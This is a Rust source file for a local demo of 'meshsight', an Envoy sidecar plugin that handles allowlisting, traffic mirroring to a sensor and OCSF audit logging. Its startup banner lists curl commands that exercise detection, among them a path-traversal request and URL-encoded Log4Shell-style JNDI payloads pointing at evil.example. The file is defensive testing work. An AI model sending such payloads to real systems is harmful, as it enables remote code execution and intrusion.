//! `make run`: the local sidecar demo. Starts the echo upstream, the sensor and the collector on
//! fixed loopback ports, then Envoy with `envoy-config/envoy.yaml` (one `meshsight` plugin
//! running allowlist, mirror and audit in one pass, then the router), prints the URLs and curl
//! lines that show each job at work, reports what reaches the sensor and the collector as it
//! happens (one line per audit record, alerts marked), and stops everything on Ctrl-C.
//!
//! Other modes serve the Docker demo (`envoy-config/docker-compose.yaml`):
//! `--serve upstream|sensor|collector` runs one helper server alone, and `--render FILE`
//! writes the rendered Envoy config.

use std::collections::BTreeMap;
use std::process::ExitCode;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use meshsight_rig::{
    template, wasm_dir, workspace_root, Collector, EchoUpstream, Envoy, RecordedRequest, Sensor,
};

/// The demo's Envoy template, relative to the workspace root.
const TEMPLATE: &str = "envoy-config/envoy.yaml";

const USAGE: &str = "\
meshsight-demo: the local meshsight sidecar demo (make run)

USAGE:
  meshsight-demo [PORT OPTIONS] [--concurrency N]   run the demo in the foreground (Ctrl-C stops)
  meshsight-demo --serve upstream|sensor|collector [PORT OPTIONS]
                                                      run one helper server only (Docker demo)
  meshsight-demo --render FILE [--wasm-dir DIR] [PORT OPTIONS]
                                                      write the rendered Envoy config and exit

PORT OPTIONS (defaults):
  --listener-port 10000  --admin-port 9901  --upstream-port 18080
  --sensor-port 18081    --collector-port 18082
";

/// The demo's settings from the command line.
#[derive(Debug, Clone)]
struct Options {
    listener_port: u16,
    admin_port: u16,
    upstream_port: u16,
    sensor_port: u16,
    collector_port: u16,
    concurrency: u32,
    serve: Option<String>,
    render: Option<String>,
    wasm_dir: Option<String>,
}

impl Options {
    fn parse(args: impl Iterator<Item = String>) -> Result<Self, String> {
        let mut options = Self {
            listener_port: 10000,
            admin_port: 9901,
            upstream_port: 18080,
            sensor_port: 18081,
            collector_port: 18082,
            concurrency: 2,
            serve: None,
            render: None,
            wasm_dir: None,
        };
        let mut args = args;
        while let Some(flag) = args.next() {
            if flag == "-h" || flag == "--help" {
                return Err(String::new());
            }
            let value = args.next().ok_or_else(|| format!("{flag} needs a value"))?;
            let port = || {
                value
                    .parse::<u16>()
                    .map_err(|_| format!("{flag}: {value:?} is not a port"))
            };
            match flag.as_str() {
                "--listener-port" => options.listener_port = port()?,
                "--admin-port" => options.admin_port = port()?,
                "--upstream-port" => options.upstream_port = port()?,
                "--sensor-port" => options.sensor_port = port()?,
                "--collector-port" => options.collector_port = port()?,
                "--concurrency" => {
                    options.concurrency = value
                        .parse()
                        .map_err(|_| format!("--concurrency: {value:?} is not a number"))?
                }
                "--serve" => options.serve = Some(value),
                "--render" => options.render = Some(value),
                "--wasm-dir" => options.wasm_dir = Some(value),
                _ => return Err(format!("unknown option {flag}")),
            }
        }
        Ok(options)
    }

    fn vars(&self) -> BTreeMap<String, String> {
        let wasm = self
            .wasm_dir
            .clone()
            .unwrap_or_else(|| wasm_dir().display().to_string());
        [
            ("LISTENER_PORT", self.listener_port.to_string()),
            ("ADMIN_PORT", self.admin_port.to_string()),
            ("UPSTREAM_PORT", self.upstream_port.to_string()),
            ("SENSOR_PORT", self.sensor_port.to_string()),
            ("COLLECTOR_PORT", self.collector_port.to_string()),
            ("WASM_DIR", wasm),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v))
        .collect()
    }
}

fn main() -> ExitCode {
    let options = match Options::parse(std::env::args().skip(1)) {
        Ok(options) => options,
        Err(message) => {
            if !message.is_empty() {
                eprintln!("meshsight-demo: {message}\n");
            }
            eprint!("{USAGE}");
            return if message.is_empty() {
                ExitCode::SUCCESS
            } else {
                ExitCode::from(2)
            };
        }
    };
    let result = if let Some(file) = &options.render {
        render(&options, file)
    } else if let Some(kind) = &options.serve {
        serve(&options, kind)
    } else {
        run(&options)
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(message) => {
            eprintln!("meshsight-demo: {message}");
            ExitCode::FAILURE
        }
    }
}

/// Sets a flag on Ctrl-C / SIGTERM.
fn stop_flag() -> Result<Arc<AtomicBool>, String> {
    let stop = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&stop);
    ctrlc::set_handler(move || flag.store(true, Ordering::SeqCst))
        .map_err(|err| format!("cannot install the Ctrl-C handler: {err}"))?;
    Ok(stop)
}

fn render(options: &Options, file: &str) -> Result<(), String> {
    let path = workspace_root().join(TEMPLATE);
    let text = std::fs::read_to_string(&path)
        .map_err(|err| format!("reading {}: {err}", path.display()))?;
    let rendered = template::render(&text, &options.vars())
        .map_err(|names| format!("{TEMPLATE} uses unknown variables: {}", names.join(", ")))?;
    std::fs::write(file, rendered).map_err(|err| format!("writing {file}: {err}"))?;
    println!("rendered {TEMPLATE} to {file}");
    Ok(())
}

fn bind_error(what: &str, port: u16, err: std::io::Error) -> String {
    format!("cannot start the {what} on 127.0.0.1:{port}: {err} (choose another port with --{what}-port)")
}

fn serve(options: &Options, kind: &str) -> Result<(), String> {
    let stop = stop_flag()?;
    // Keep the server alive until Ctrl-C; report what it receives.
    let (port, requests): (u16, Box<dyn Fn() -> Vec<RecordedRequest>>) = match kind {
        "upstream" => {
            let server = EchoUpstream::start_on(options.upstream_port)
                .map_err(|e| bind_error("upstream", options.upstream_port, e))?;
            (server.port(), Box::new(move || server.requests()))
        }
        "sensor" => {
            let server = Sensor::start_on(options.sensor_port)
                .map_err(|e| bind_error("sensor", options.sensor_port, e))?;
            (server.port(), Box::new(move || server.requests()))
        }
        "collector" => {
            let server = Collector::start_on(options.collector_port)
                .map_err(|e| bind_error("collector", options.collector_port, e))?;
            (server.port(), Box::new(move || server.requests()))
        }
        other => {
            return Err(format!(
                "--serve {other:?}: expected upstream, sensor or collector"
            ))
        }
    };
    println!("meshsight-demo: {kind} listening on 127.0.0.1:{port}");
    let mut seen = 0;
    while !stop.load(Ordering::SeqCst) {
        let all = requests();
        for request in all.iter().skip(seen) {
            println!("{kind:<9} <- {}", describe(request));
        }
        seen = all.len();
        thread::sleep(Duration::from_millis(200));
    }
    Ok(())
}

fn run(options: &Options) -> Result<(), String> {
    let stop = stop_flag()?;
    let upstream = EchoUpstream::start_on(options.upstream_port)
        .map_err(|e| bind_error("upstream", options.upstream_port, e))?;
    let sensor = Sensor::start_on(options.sensor_port)
        .map_err(|e| bind_error("sensor", options.sensor_port, e))?;
    let collector = Collector::start_on(options.collector_port)
        .map_err(|e| bind_error("collector", options.collector_port, e))?;
    let mut builder = Envoy::builder(TEMPLATE)
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .concurrency(options.concurrency)
        .die_with_parent();
    for (name, value) in options.vars() {
        builder = builder.var(&name, value);
    }
    println!("meshsight-demo: starting Envoy ({TEMPLATE}) ...");
    let envoy = builder.start().map_err(|err| err.to_string())?;
    print_banner(options, &envoy);

    let (mut seen_upstream, mut seen_sensor, mut seen_collector) = (0, 0, 0);
    while !stop.load(Ordering::SeqCst) {
        let requests = upstream.requests();
        for request in requests.iter().skip(seen_upstream) {
            println!("upstream  <- {} {}", request.method, request.path);
        }
        seen_upstream = requests.len();
        let requests = sensor.requests();
        for request in requests.iter().skip(seen_sensor) {
            println!("sensor    <- mirrored copy: {}", describe_copy(request));
        }
        seen_sensor = requests.len();
        let requests = collector.requests();
        for request in requests.iter().skip(seen_collector) {
            println!("collector <- {}", describe(request));
            for record in request.body_text().lines().filter(|l| !l.trim().is_empty()) {
                println!("collector    record: {}", describe_record(record));
            }
        }
        seen_collector = requests.len();
        thread::sleep(Duration::from_millis(200));
    }
    println!("\nmeshsight-demo: stopping Envoy and the helper servers");
    drop(envoy);
    Ok(())
}

/// One line about a recorded request: method, target, and for a body its records.
fn describe(request: &RecordedRequest) -> String {
    let mut line = format!("{} {}", request.method, request.path);
    if !request.body.is_empty() {
        let text = request.body_text();
        let records = text.lines().filter(|l| !l.trim().is_empty()).count();
        let first: String = text
            .lines()
            .next()
            .unwrap_or("")
            .chars()
            .take(160)
            .collect();
        line.push_str(&format!(" ({records} record(s)) first: {first}"));
    }
    line
}

/// A copy the sensor received, with the provenance the sidecar set on it (never the client's):
/// reason and signatures from the decision, peer address, principal and request id. Envoy's
/// route mirror (`host: <authority>-shadow`) and the plugin's own HTTP call carry the same
/// `x-meshsight-mirror-decision`.
fn describe_copy(request: &RecordedRequest) -> String {
    let how = if request.header("x-meshsight-mirror-target").is_some() {
        "sent by the plugin"
    } else {
        "Envoy's route mirror"
    };
    let mut line = format!("{} {} ({how}", request.method, request.path);
    if let Some(d) = request
        .header("x-meshsight-mirror-decision")
        .and_then(|d| serde_json::from_str::<serde_json::Value>(d).ok())
    {
        line.push_str(&format!(", reason {}", d["reason"].as_str().unwrap_or("-")));
        if let Some(signatures) = d["signatures"].as_array().filter(|s| !s.is_empty()) {
            let names: Vec<&str> = signatures.iter().filter_map(|s| s.as_str()).collect();
            line.push_str(&format!(": {}", names.join(",")));
        }
    }
    line.push(')');
    for (label, header) in [
        ("from", "x-meshsight-mirror-source-address"),
        ("principal", "x-meshsight-mirror-source-principal"),
        ("request id", "x-meshsight-mirror-request-id"),
        (
            "client claimed x-forwarded-for",
            "x-meshsight-mirror-claimed-forwarded-for",
        ),
    ] {
        if let Some(v) = request.header(header).filter(|v| !v.is_empty()) {
            line.push_str(&format!("; {label} {v}"));
        }
    }
    line
}

/// One OCSF record in a line: status, method, path, the allowlist's disposition and rule, and
/// the alert when a signature matched.
fn describe_record(record: &str) -> String {
    let Ok(r) = serde_json::from_str::<serde_json::Value>(record) else {
        return record.chars().take(160).collect();
    };
    let text = |v: &serde_json::Value| match v {
        serde_json::Value::String(s) => s.clone(),
        serde_json::Value::Null => "-".to_string(),
        other => other.to_string(),
    };
    let mut line = format!(
        "{} {} {} disposition {}",
        text(&r["http_response"]["code"]),
        text(&r["http_request"]["http_method"]),
        text(&r["http_request"]["url"]["path"]),
        text(&r["disposition"]),
    );
    if let Some(rule) = r["firewall_rule"]["name"].as_str() {
        line.push_str(&format!(" (rule {rule})"));
    }
    if r["is_alert"] == true {
        let signatures = &r["unmapped"]["meshsight"]["mirror"]["signatures"];
        line.push_str(&format!(
            "  ALERT severity {}: {}",
            text(&r["severity"]),
            text(signatures)
        ));
    }
    line
}

fn print_banner(options: &Options, envoy: &Envoy) {
    let base = format!("http://127.0.0.1:{}", options.listener_port);
    let admin = format!("http://127.0.0.1:{}", options.admin_port);
    println!(
        "\
meshsight demo is up (Envoy pid {pid}, log {log})
  sidecar listener  {base}   meshsight (allowlist + mirror + audit, one pass) -> echo upstream
  Envoy admin       {admin}
  echo upstream     127.0.0.1:{up}   sensor 127.0.0.1:{sensor}   collector 127.0.0.1:{collector}

Try (each request also yields an OCSF audit record, POSTed to the collector within ~1 s):
  # allowlist: a listed path is forwarded (200, the upstream's JSON echo)
  curl -i {base}/api/items
  # allowlist: a path outside the list is refused (403)
  curl -i {base}/admin
  # allowlist: dot-segments are resolved before matching: /api/../admin is /admin (403);
  # being a traversal attempt, it is also copied to the sensor (signature path_traversal)
  curl -i --path-as-is '{base}/api/../admin'
  # mirror: rule \"orders\" mirrors /api/orders/** to the sensor (header delivery); other
  # requests are mirrored as the policy in envoy-config/envoy.yaml says (e.g. a sampled share)
  curl -i {base}/api/orders/42
  # mirror: a Log4Shell-style payload is mirrored by signature, whatever the rules
  curl -i '{base}/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D'
  # a BLOCKED attack: the allowlist answers 403, yet the signature still sends a copy to the
  # sensor and the collector gets an alert (is_alert, severity High, disposition Blocked)
  curl -i '{base}/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D'
  # the counters
  curl -s '{admin}/stats?filter=meshsight'

Below: what reaches the upstream, the sensor and the collector. Ctrl-C stops everything.",
        pid = envoy.pid(),
        log = envoy.run_dir().join("envoy.log").display(),
        up = options.upstream_port,
        sensor = options.sensor_port,
        collector = options.collector_port,
    );
}
